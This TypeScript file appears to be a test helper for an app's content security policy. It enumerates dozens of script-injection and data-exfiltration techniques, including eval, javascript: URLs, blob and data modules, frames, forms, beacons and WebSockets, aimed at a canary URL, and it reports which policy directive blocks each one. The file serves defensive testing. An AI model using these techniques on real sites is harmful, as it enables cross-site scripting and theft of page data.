/** What an attack on the page is given: a script that leaves a mark, and an address of the canary. */
export type Aim = { script: string; url: string };

/**
 * Attacks on the content security policy by somebody who can run code on the page. A function that
 * stands for itself: it is sent to the page as text. Each would reach its aim on a page that has no
 * defence.
 */
export function policyAttacks(): Record<string, (aim: Aim) => unknown> {
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    const events = new Promise((_done, failed) => {
      element.onerror = () => failed(new Error('the element failed'));
    });
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return events;
  };
  // In a task of its own, because the debugger may evaluate what the page may not.
  const later = (run: () => unknown) =>
    new Promise((done, failed) => {
      setTimeout(() => {
        try {
          Promise.resolve(run()).then(done, failed);
        } catch (error) {
          failed(error);
        }
      });
    });
  const styled = (style: Partial<CSSStyleDeclaration>) => {
    const element = document.createElement('div');
    Object.assign(element.style, { width: '9px', height: '9px', ...style });
    document.body.append(element);
  };
  const form = (url: string, target: string) => {
    const element = document.createElement('form');
    Object.assign(element, { action: url, method: 'post', target });
    document.body.append(element);
    element.submit();
  };
  return {
    'inline script': ({ script }) => {
      const element = document.createElement('script');
      element.append(script);
      document.body.append(element);
    },
    'inline script of SVG': ({ script }) => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const element = document.createElementNS('http://www.w3.org/2000/svg', 'script');
      element.append(script);
      svg.append(element);
      document.body.append(svg);
    },
    'inline module': ({ script }) => {
      const element = document.createElement('script');
      element.type = 'module';
      element.append(script);
      document.body.append(element);
    },
    'event handler': ({ script }) => add('img', { onerror: script, src: 'app://nowhere/' }),
    'HTML with an event handler': ({ script }) => {
      const holder = document.createElement('div');
      holder.innerHTML = `<img src="app://nowhere/" onerror='${script}'>`;
      document.body.append(holder);
    },
    'HTML of a parsed document': ({ script }) => {
      const parsed = new DOMParser().parseFromString(
        `<img src="app://nowhere/" onerror='${script}'>`,
        'text/html',
      );
      document.body.append(...parsed.body.childNodes);
    },
    // biome-ignore lint/security/noGlobalEval: it is the attack
    eval: ({ script }) => later(() => globalThis.eval(script)),
    'function from text': ({ script }) => later(() => new Function(script)()),
    'timer from text': ({ script }) => later(() => setTimeout(script)),
    'javascript: address': ({ script }) => {
      location.href = `javascript:${script}`;
    },
    'javascript: link': ({ script }) => {
      const link = document.createElement('a');
      link.href = `javascript:${script};void 0`;
      document.body.append(link);
      link.click();
    },
    'module from data:': ({ script }) =>
      import(/* @vite-ignore */ `data:text/javascript,${script}`),
    'module from blob:': ({ script }) =>
      import(
        /* @vite-ignore */ URL.createObjectURL(new Blob([script], { type: 'text/javascript' }))
      ),
    'remote script': ({ url }) => add('script', { src: url }),
    'remote module': ({ url }) => import(/* @vite-ignore */ url),
    'remote module, preloaded': ({ url }) => add('link', { rel: 'modulepreload', href: url }),
    'remote preload': ({ url }) => add('link', { rel: 'preload', as: 'image', href: url }),
    'remote prefetch': ({ url }) => add('link', { rel: 'prefetch', href: url }),
    'worker from blob:': ({ url }) =>
      later(() => new Worker(URL.createObjectURL(new Blob([`importScripts('${url}')`])))),
    'remote style sheet': ({ url }) => add('link', { rel: 'stylesheet', href: url }),
    'inline style sheet': ({ url }) => {
      const style = document.createElement('style');
      style.append(`body { background-image: url(${url}) }`);
      document.body.append(style);
    },
    'remote font': ({ url }) => new FontFace('canary', `url(${url})`).load(),
    'remote image': ({ url }) => add('img', { src: url }),
    'remote image of a set': ({ url }) => add('img', { srcset: `${url} 2x` }),
    'remote image of SVG': ({ url }) => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', url);
      svg.append(image);
      document.body.append(svg);
    },
    'remote image in a style': ({ url }) => styled({ backgroundImage: `url(${url})` }),
    'remote mask in a style': ({ url }) =>
      styled({ borderImageSource: `url(${url})`, borderImageSlice: '1', borderStyle: 'solid' }),
    'remote sound': ({ url }) => add('audio', { src: url, preload: 'auto' }),
    'remote film': ({ url }) => add('video', { src: url, preload: 'auto' }),
    'remote poster': ({ url }) => add('video', { poster: url }),
    'input as image': ({ url }) => add('input', { type: 'image', src: url }),
    'remote frame': ({ url }) => add('iframe', { src: url }),
    'frame of HTML': ({ script }) =>
      add('iframe', { srcdoc: `<script>parent.eval(${JSON.stringify(script)})</script>` }),
    'frame from data:': ({ url }) => add('iframe', { src: `data:text/html,<img src=${url}>` }),
    'remote object': ({ url }) => add('object', { data: url, type: 'text/html' }),
    'remote embed': ({ url }) => add('embed', { src: url, type: 'text/html' }),
    'form to elsewhere': ({ url }) => {
      const frame = document.createElement('iframe');
      frame.name = 'canary-frame';
      document.body.append(frame);
      form(url, 'canary-frame');
    },
    'other base': ({ url }) => {
      const base = document.createElement('base');
      base.href = url.replace(/[^/]*$/, '');
      document.head.append(base);
      const image = new Image();
      image.src = url.replace(/.*\//, '');
      base.remove();
    },
    fetch: ({ url }) => fetch(url),
    'fetch without an answer': ({ url }) => fetch(url, { mode: 'no-cors', keepalive: true }),
    'request of the old kind': ({ url }) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
      return new Promise((_done, failed) => {
        request.onerror = () => failed(new Error('the request failed'));
      });
    },
    beacon: ({ url }) => navigator.sendBeacon(url, 'x'),
    'web socket': ({ url }) => new WebSocket(url.replace('http', 'ws')),
    'event source': ({ url }) => new EventSource(url),
  };
}

/**
 * Tries one attack on the page and says what stopped it: the directive of the policy, or the error.
 * Sent to the page as text too.
 */
export function tryAttack(
  attacks: ReturnType<typeof policyAttacks>,
  name: string,
  aim: Aim,
): Promise<string> {
  return new Promise((done) => {
    const told = (event: SecurityPolicyViolationEvent) => finish(event.effectiveDirective);
    const finish = (outcome: string) => {
      document.removeEventListener('securitypolicyviolation', told);
      done(outcome);
    };
    document.addEventListener('securitypolicyviolation', told);
    try {
      Promise.resolve(attacks[name]?.(aim)).catch((error) => finish(String(error.message)));
    } catch (error) {
      finish(String((error as Error).message));
    }
  });
}
